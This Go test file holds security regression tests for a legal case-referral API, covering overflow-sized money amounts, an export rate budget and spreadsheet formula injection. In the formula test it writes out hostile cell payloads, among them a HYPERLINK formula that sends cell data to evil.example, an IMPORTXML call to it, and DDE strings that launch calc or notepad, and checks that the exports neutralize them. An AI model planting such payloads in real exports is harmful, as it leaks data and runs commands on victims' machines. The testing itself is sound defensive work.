package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/casexchange/server/gen/api"
	"github.com/casexchange/server/internal/httpapi/apitest"
	"github.com/casexchange/server/internal/refdata"
)

// Regression tests for findings 3, 4 and 12b of the security review: money amounts
// that overflowed the analytics, formulas in the exports, and an export budget spent on requests
// refused for their filters.

// TestAnalyticsHugeAmounts: one firm could break another firm's analytics by storing an amount
// near the largest double (finding 3).
func TestAnalyticsHugeAmounts(t *testing.T) {
	t.Parallel()

	t.Run("AmountsAboveATrillionAreRefusedOnEveryPath", func(t *testing.T) {
		t.Parallel()
		b := lcSetup(t)
		c := b.sentCase(t, b.recv)
		rid, cid := referralID(c), c.Id.String()
		b.call(t, http.StatusOK, "POST", refPath("referrals", rid, "acknowledge"), b.rStd, nil, nil)

		huge := 1.7e308
		refused := func(method, path, key string, body map[string]any, field string) {
			t.Helper()
			r := b.callErr(t, http.StatusBadRequest, "validation_error", method, path, key, body)
			require.Contains(t, errorFields(t, r), field, "%s %s: %s", method, path, r.Body)
			if !strings.HasSuffix(field, "Percentage") {
				require.Contains(t, string(r.Body), "1,000,000,000,000", "the message states the bound")
			}
		}
		// The attack: the receiving firm sets a projection of 1.7e308 on the sender's referral.
		refused("PUT", refPath("referrals", rid), b.rStd, map[string]any{"projectedSettlementAmount": huge}, "body.projectedSettlementAmount")
		refused("PUT", refPath("referrals", rid), b.sStd, map[string]any{"settlementAmount": 1e12 + 1}, "body.settlementAmount")
		refused("PUT", refPath("referrals", rid), b.sStd, map[string]any{"attorneyFees": huge}, "body.attorneyFees")
		refused("PUT", refPath("cases", cid, "referrals", rid), b.rStd, map[string]any{"projectedSettlementAmount": 1e13}, "body.projectedSettlementAmount")
		refused("PATCH", refPath("received-referrals", rid), b.rStd, map[string]any{"projectedSettlementAmount": huge}, "body.projectedSettlementAmount")
		refused("PATCH", refPath("received-referrals", rid), b.rStd, map[string]any{"attorneyFees": huge}, "body.attorneyFees")
		refused("PATCH", refPath("received-referrals", rid), b.rStd, map[string]any{"settlementAmount": huge}, "body.settlementAmount")
		closeBody := func(field string) map[string]any {
			return map[string]any{"closingStatus": "won_settled", field: huge}
		}
		for _, p := range []string{refPath("referrals", rid, "close"), refPath("received-referrals", rid, "close"),
			refPath("cases", cid, "close"), refPath("cases", cid, "referrals", rid, "close")} {
			refused("POST", p, b.rFull, closeBody("settlementAmount"), "body.settlementAmount")
			refused("POST", p, b.rFull, closeBody("attorneyFees"), "body.attorneyFees")
		}
		// Percentages keep their ranges on the paths whose schema does not state them.
		refused("PUT", refPath("referrals", rid), b.rStd, map[string]any{"sendingFirmPercentage": huge}, "body.sendingFirmPercentage")
		refused("PUT", refPath("referrals", rid), b.rStd, map[string]any{"clientFeeAgreementPercentage": 2}, "body.clientFeeAgreementPercentage")

		// The bound itself is accepted, and nothing refused was stored.
		var ref api.ReferralResponse
		b.call(t, http.StatusOK, "PUT", refPath("referrals", rid), b.rStd, map[string]any{"projectedSettlementAmount": 1e12}, &ref)
		require.NotNil(t, ref.Data.ProjectedSettlementAmount)
		require.Equal(t, 1e12, *ref.Data.ProjectedSettlementAmount)
		require.Nil(t, ref.Data.SettlementAmount)
		require.Nil(t, ref.Data.AttorneyFees)
		apitest.SecurityFinding(t, 3, "amounts above 1e12 refused on 8 write paths")
	})

	t.Run("AmountsStoredBeforeTheBoundKeepAnalyticsFinite", func(t *testing.T) {
		t.Parallel()
		h := apitest.New(t)
		fx := newAnFixture(h)
		acme := h.NewFirm(apitest.FirmOpts{Name: "Acme Injury Law"})
		bay := h.NewFirm(apitest.FirmOpts{Name: "Bay Legal Group"})
		acmeKey, bayKey := h.Key(acme, apitest.ReadOnly), h.Key(bay, apitest.ReadOnly)
		pi := refdata.PersonalInjuryID
		huge := math.MaxFloat64 / 1.05 // ~1.7e308: two of them overflow a double
		// Rows written directly: the API no longer accepts such amounts. Two open referrals with a
		// huge projection (the attack) and two won ones with huge money in every column.
		fx.insert(t, "P1", anRef{from: acme, to: bay, caseType: pi, juris: "IL", sent: "2026-01-10T12:00:00Z", projected: &huge,
			steps: []anStep{{"under_evaluation", "2026-01-11T12:00:00Z"}}})
		fx.insert(t, "P2", anRef{from: acme, to: bay, caseType: pi, juris: "IL", sent: "2026-01-12T12:00:00Z", projected: &huge,
			steps: []anStep{{"under_evaluation", "2026-01-13T12:00:00Z"}}})
		for i, key := range []string{"W1", "W2"} {
			d := 14 + 4*i
			at := func(day int) string { return fmt.Sprintf("2026-01-%02dT12:00:00Z", day) }
			fx.insert(t, key, anRef{from: acme, to: bay, caseType: pi, juris: "IL", sent: at(d), closing: "won_settled",
				settlement: &huge, fees: &huge, sendingPct: anF(100), projected: &huge,
				steps: []anStep{{"under_evaluation", at(d + 1)}, {"signed", at(d + 2)}, {"closed", at(d + 3)}}})
		}

		var checked int
		finite := func(t *testing.T, what string, body []byte) {
			t.Helper()
			var v any
			require.NoError(t, json.Unmarshal(body, &v), what)
			var walk func(v any)
			walk = func(v any) {
				switch x := v.(type) {
				case map[string]any:
					for _, e := range x {
						walk(e)
					}
				case []any:
					for _, e := range x {
						walk(e)
					}
				case float64:
					checked++
					require.False(t, math.IsInf(x, 0) || math.IsNaN(x), "%s: %v", what, x)
				}
			}
			walk(v)
		}
		get := func(t *testing.T, key, path string, q ...string) *apitest.Response {
			t.Helper()
			r := h.Do("GET", anBase+path, apitest.APIKey(key), apitest.Query(q...))
			require.Equal(t, http.StatusOK, r.StatusCode, "%s: %s", path, r.Body)
			return r
		}
		for _, p := range []string{"/revenue-sent", "/dashboard", "/sent", "/cases", "/referrals"} {
			finite(t, p, get(t, acmeKey, p).Body)
		}
		for _, p := range []string{"/revenue-received", "/received", "/dashboard"} {
			finite(t, "bay "+p, get(t, bayKey, p).Body)
		}
		var rev api.RevenueAnalyticsResponse
		get(t, acmeKey, "/revenue-sent").Decode(&rev)
		require.Greater(t, rev.Data.ProjectedSettlementAmount, 1e299, "the projection is reported, capped, not dropped")

		// The exports: the bundled workbook, and the revenue category as CSV and XLSX.
		book, err := excelize.OpenReader(bytes.NewReader(get(t, acmeKey, "/export").Body))
		require.NoError(t, err)
		require.NoError(t, book.Close())
		r := get(t, acmeKey, "/revenue-sent/export", "format", "csv")
		records, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		require.NoError(t, err)
		for _, rec := range records[1:] {
			if rec[3] == "" {
				continue
			}
			v, err := strconv.ParseFloat(rec[3], 64)
			require.NoError(t, err, rec)
			require.False(t, math.IsInf(v, 0), rec)
		}
		get(t, acmeKey, "/revenue-sent/export")
		get(t, bayKey, "/revenue-received/export", "format", "csv")
		apitest.SecurityFinding(t, 3, "stored 1.7e308 amounts: 8 analytics answers, %d figures finite", checked)
	})
}

// TestAnalyticsExportBudgetAfterFilters: a request refused for its filters must not spend the
// caller's export budget (finding 12b).
func TestAnalyticsExportBudgetAfterFilters(t *testing.T) {
	t.Parallel()
	h := apitest.New(t)
	firm := h.NewFirm(apitest.FirmOpts{Name: "Budget Law"})
	key := h.Key(firm, apitest.ReadOnly)
	bad := [][]string{
		{"/export", "tz", "Nowhere/Special"},
		{"/export", "referralStartDate", "2026-02-10", "referralEndDate", "2026-02-01"},
		{"/sent/export", "signedStartDate", "2026-02-10", "signedEndDate", "2026-02-01"},
		{"/revenue-sent/export", "tz", "Local", "format", "csv"},
		{"/homepage/export", "tz", "Mars/Olympus_Mons"},
	}
	refused := 0
	for range 3 { // 15 refusals: more than the budget of 10
		for _, q := range bad {
			r := h.Do("GET", anBase+q[0], apitest.APIKey(key), apitest.Query(q[1:]...))
			require.Equal(t, http.StatusBadRequest, r.StatusCode, "%v: %s", q, r.Body)
			require.Equal(t, "validation_error", r.ErrorCode())
			refused++
		}
	}
	// The whole budget is still there: ten exports, then the eleventh is refused.
	for i := range 10 {
		r := h.Do("GET", anBase+"/homepage/export", apitest.APIKey(key), apitest.Query("format", "csv"))
		require.Equal(t, http.StatusOK, r.StatusCode, "export %d after %d refusals: %s", i+1, refused, r.Body)
	}
	r := h.Do("GET", anBase+"/export", apitest.APIKey(key))
	require.Equal(t, http.StatusTooManyRequests, r.StatusCode, string(r.Body))
	apitest.SecurityFinding(t, 12, "12b: %d filter refusals left the 10-export budget whole", refused)
}

// TestExportFormulaNeutralized: text from another firm (its name) or from the caller's own
// records (titles, client names) must not reach a spreadsheet as a formula, in any export
// (finding 4).
func TestExportFormulaNeutralized(t *testing.T) {
	t.Parallel()
	b := lcSetup(t)
	const evilName = `=HYPERLINK("http://evil.example/?x="&A1,"Bay Legal Group")`
	r := b.h.Do("PUT", "/api/public/v1/firms/me", apitest.APIKey(b.rFull), apitest.JSON(map[string]any{"name": evilName}))
	require.Equal(t, http.StatusOK, r.StatusCode, string(r.Body))
	hostile := map[string]string{
		"title":           "@SUM(1+1)*cmd|' /C calc'!A0",
		"clientFirstName": "+cmd|' /C notepad'!A1",
		"clientLastName":  "-2+3+cmd|' /C calc'!A0",
		"source":          "\t=1+1",
		"notes":           "=IMPORTXML(\"http://evil.example\")",
		"description":     "@evil",
	}
	body := caseBody(b.recv)
	for k, v := range hostile {
		body[k] = v
	}
	var sc api.SentCaseResponse
	b.call(t, http.StatusCreated, "POST", "/sent-cases", b.sStd, body, &sc)
	// The receiver works the referral so that Bay shows up in every analytics breakdown.
	rid := referralID(sc.Data)
	b.call(t, http.StatusOK, "POST", refPath("referrals", rid, "acknowledge"), b.rStd, nil, nil)
	// And a won referral (written directly, with its history), so that Bay is in the revenue
	// breakdowns as well.
	newAnFixture(b.h).insert(t, "W1", anRef{from: b.sender, to: b.recv, caseType: refdata.PersonalInjuryID, juris: "IL",
		sent: "2026-01-10T12:00:00Z", closing: "won_settled", settlement: anF(100000), fees: anF(30000), sendingPct: anF(25),
		steps: []anStep{{"under_evaluation", "2026-01-11T12:00:00Z"}, {"signed", "2026-01-12T12:00:00Z"}, {"closed", "2026-01-20T12:00:00Z"}}})

	// safe checks one file's cells: none may start a formula, and the hostile texts that the file
	// carries are there with the quote in front.
	type file struct {
		name  string
		cells [][]string
	}
	var files []file
	safe := func(t *testing.T, f file, want ...string) {
		t.Helper()
		found := map[string]bool{}
		for _, row := range f.cells {
			for _, cell := range row {
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					continue // a number cell (a negative figure stays a number)
				}
				require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])),
					"%s: cell %q starts a formula", f.name, cell)
				found[cell] = true
			}
		}
		for _, w := range want {
			require.True(t, found["'"+w], "%s carries %q neutralized", f.name, w)
		}
		files = append(files, f)
	}
	readCSV := func(t *testing.T, name string, body []byte) file {
		t.Helper()
		recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		require.NoError(t, err, name)
		return file{name, recs}
	}
	readXLSX := func(t *testing.T, name string, body []byte) []file {
		t.Helper()
		book, err := excelize.OpenReader(bytes.NewReader(body))
		require.NoError(t, err, name)
		defer book.Close()
		var out []file
		for _, sh := range book.GetSheetList() {
			rows, err := book.GetRows(sh, excelize.Options{RawCellValue: true})
			require.NoError(t, err)
			for i, row := range rows {
				for j := range row {
					cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
					formula, err := book.GetCellFormula(sh, cell)
					require.NoError(t, err)
					require.Empty(t, formula, "%s %s!%s holds a formula", name, sh, cell)
				}
			}
			out = append(out, file{name + "/" + sh, rows})
		}
		return out
	}

	// The case export, both sides, both formats.
	caseTexts := []string{hostile["title"], hostile["clientFirstName"], hostile["clientLastName"], hostile["source"]}
	for _, side := range []struct {
		key  string
		want []string
	}{{b.sRO, append(caseTexts, evilName)}, {b.rRO, []string{hostile["title"], hostile["source"]}}} {
		r := b.call(t, http.StatusOK, "GET", "/cases/export", side.key, nil, nil)
		safe(t, readCSV(t, "cases.csv", r.Body), side.want...)
		r = b.call(t, http.StatusOK, "GET", "/cases/export?format=xlsx", side.key, nil, nil)
		for _, f := range readXLSX(t, "cases.xlsx", r.Body) {
			safe(t, f, side.want...)
		}
	}

	// The analytics exports of the sender, where Bay is a partner firm: the bundled workbook and
	// every category that lists partners, as CSV and XLSX. A key per few exports (a budget of ten).
	var book []file
	for _, f := range readXLSX(t, "analytics.xlsx", b.call(t, http.StatusOK, "GET", "/analytics/export", b.sRO, nil, nil).Body) {
		safe(t, f)
		book = append(book, f)
	}
	withName := 0
	for _, f := range book {
		for _, row := range f.cells {
			if len(row) > 1 && row[1] == "'"+evilName {
				withName++
				break
			}
		}
	}
	require.Positive(t, withName, "the workbook names the partner firm")
	for _, cat := range []string{"sent", "revenue-sent", "referrals"} {
		key := b.h.Key(b.sender, apitest.ReadOnly)
		r := b.call(t, http.StatusOK, "GET", "/analytics/"+cat+"/export?format=csv", key, nil, nil)
		safe(t, readCSV(t, cat+".csv", r.Body), evilName)
		r = b.call(t, http.StatusOK, "GET", "/analytics/"+cat+"/export", key, nil, nil)
		for _, f := range readXLSX(t, cat+".xlsx", r.Body) {
			safe(t, f, evilName)
		}
	}
	// The receiver's exports name the sender (a plain name) and must stay clean too.
	for _, cat := range []string{"received", "revenue-received"} {
		r := b.call(t, http.StatusOK, "GET", "/analytics/"+cat+"/export?format=csv", b.rRO, nil, nil)
		safe(t, readCSV(t, cat+".csv", r.Body))
	}
	// The import template has no user text; it is written by the same writer.
	r = b.call(t, http.StatusOK, "GET", "/import/cases/template", b.sRO, nil, nil)
	safe(t, readCSV(t, "template.csv", r.Body))
	apitest.SecurityFinding(t, 4, "%d export files (CSV and XLSX) checked cell by cell", len(files))
}
